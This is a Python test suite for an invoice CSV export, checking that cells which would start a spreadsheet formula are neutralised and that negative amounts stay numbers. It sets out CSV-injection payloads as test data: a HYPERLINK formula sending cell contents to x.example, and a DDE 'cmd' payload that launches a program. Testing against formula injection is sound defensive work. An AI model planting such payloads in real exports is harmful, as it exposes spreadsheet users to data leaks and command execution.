"""The invoice CSV export, read back with the csv module: text cells that a spreadsheet
would evaluate (=, +, -, @, tab, CR first) are neutralised with a leading quote, while
money cells, negative amounts included, stay numbers. Through the API and the page."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

from aiohttp.test_utils import TestClient

from tests.support.api import create_project
from tests.support.invoicing import (
    COMMITMENT,
    OCTOBER,
    commitment_of,
    line,
    ok,
    post_invoice,
    signed_in,
    submit,
)
from tests.support.pages import sign_in
from tests.support.world import World

FORMULA_NUMBER = '=HYPERLINK("http://x.example/?"&A1)'
FORMULA_COMPANY = "=cmd|' /C calc'!A0"
HOSTILE_LINES = [
    {"item_number": "+1", "description": "@SUM(1+1)*cmd|' /C calc'!A0",
     "scheduled_value": "100000.00"},
    {"item_number": "2", "description": "-2+3", "scheduled_value": "50000.00"},
    {"item_number": "CO-1", "description": "Deduct: rebar credit",
     "scheduled_value": "-1250.00", "change_order": True},
]


async def test_formula_cells_are_neutralised_and_negative_amounts_stay_numbers(
        api: TestClient, admin_headers: dict[str, str]) -> None:
    project = await create_project(api, admin_headers)
    commitment = await ok(await api.post(
        f"/api/projects/{project['id']}/commitments", headers=admin_headers,
        json={**COMMITMENT, "contract_company": {"name": FORMULA_COMPANY},
              "sov_lines": HOSTILE_LINES}), 201)
    period = await ok(await api.post(f"/api/projects/{project['id']}/billing-periods",
                                     json=OCTOBER, headers=admin_headers), 201)
    ids = [row["id"] for row in commitment["sov_lines"]]
    invoice = await ok(await post_invoice(api, admin_headers, commitment["id"], {
        "billing_period_id": period["id"], "number": FORMULA_NUMBER,
        "lines": [line(ids[0], "1000"), line(ids[2], "-500")]}), 201)
    export = await api.get(f"/api/invoices/{invoice['id']}/export.csv", headers=admin_headers)
    assert export.status == 200
    rows = list(csv.reader(io.StringIO(await export.text())))

    assert rows[0][:2] == ["Invoice", "'" + FORMULA_NUMBER]
    assert rows[0][4:6] == ["Contract company", "'" + FORMULA_COMPANY]
    lines = rows[2:5]
    assert [row[:2] for row in lines] == [
        ["'+1", "'@SUM(1+1)*cmd|' /C calc'!A0"], ["2", "'-2+3"],
        ["CO-1", "Deduct: rebar credit"]]
    change_order = lines[2]
    # C scheduled value and E work this period of the deduct: negative numbers, unquoted.
    assert (change_order[2], change_order[4]) == ("-1250.00", "-500.00")
    assert Decimal(change_order[2]) == Decimal("-1250.00")
    for row in rows:  # no cell of the export starts a formula
        assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in row), row
        assert all(Decimal(cell) < 0 for cell in row if cell.startswith("-")), row


async def test_the_admin_pages_export_is_neutralised_too(world: World,
                                                         world_api: TestClient) -> None:
    link = await signed_in(world, world_api)
    first = (await commitment_of(world, link)).sov_lines[0]
    assert (await submit(world_api, link, {"number": "@BW-1", f"work_{first.id}": "100"},
                         "send")).status == 303
    await sign_in(world_api, world)
    invoices = await world.container.invoices.list_for_period(
        world.admin, world.demo.billing_period_id)
    export = await world_api.get(f"/admin/invoices/{invoices[0].id}/export.csv")
    assert export.status == 200
    rows = list(csv.reader(io.StringIO(await export.text())))
    assert rows[0][1] == "'@BW-1"
